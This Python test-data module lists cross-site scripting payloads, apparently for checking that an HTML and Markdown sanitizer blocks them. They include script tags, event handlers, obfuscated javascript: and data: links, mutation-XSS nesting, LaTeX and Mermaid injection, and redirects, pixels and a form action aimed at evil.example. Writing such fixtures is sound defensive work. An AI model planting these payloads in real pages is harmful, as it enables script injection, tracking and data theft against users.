"""Texts and fragments of HTML that would load or run something, were they let through."""

TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[click](javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](&#x6A;avascript&#58;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x) <javascript:alert(1)> [x]: javascript:alert(1)",
    "[click][1]\n\n[1]: javascript:alert(1)",
    '[click](https://x.example "onmouseover=alert(1)")',
    "[click](https://x.example/'\"><script>alert(1)</script>)",
    "![track](https://evil.example/pixel.png)",
    "![track](//evil.example/pixel.png)",
    "![track](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a"onerror="alert(1)](data:image/png;base64,AAAA)',
    "![x](attachment:none.png)",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\n</pre><script>alert(1)</script>\n```",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{x}{y}$",
    r"$$\unicode{<img src=x onerror=alert(1)>}$$",
    "\\begin{align}<img src=x onerror=alert(1)>\\end{align}",
    "$" + "{" * 3000 + "$",
    "<a href='javascript:alert(1)'>x</a><iframe srcdoc='<script>alert(1)</script>'>",
    (
        "<style>body{display:none}</style><base href=//evil.example><meta http-equiv=refresh "
        "content='0;url=//evil.example'>"
    ),
    "</div></section></main></body></html><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    (
        "- [ ] <input onfocus=alert(1) autofocus>\n"
        "\n"
        "| a | b |\n"
        "|---|---|\n"
        "| <svg onload=alert(1)> | [x](javascript:1) |"
    ),
]


FRAGMENTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
    "<img src='https://evil.example/pixel.png' srcset='https://evil.example/2.png 2x'>",
    "<a href='javascript:alert(1)'>x</a><a href='data:text/html,x'>x</a>",
    "<a href='//x.example'>x</a><a href='vbscript:x'>x</a><a href='02_layer.ipynb'>x</a>",
    "<a href='http://x.example' onclick=alert(1) target=_top ping=/x style='position:fixed'>x</a>",
    "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)' xlink:href='javascript:alert(1)'><mi>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div style='background:url(//evil.example)'><td style='position:fixed;text-align:left'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)></form>",
    "<span id=top class='panel summary' role=alert tabindex=1>x</span><p id=score name=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template><!-- <script>alert(1)</script> -->",
    "<plaintext><title></textarea><xmp><script>alert(1)</script>",
    "</div></section></main></body></html><script>alert(1)</script>",
]
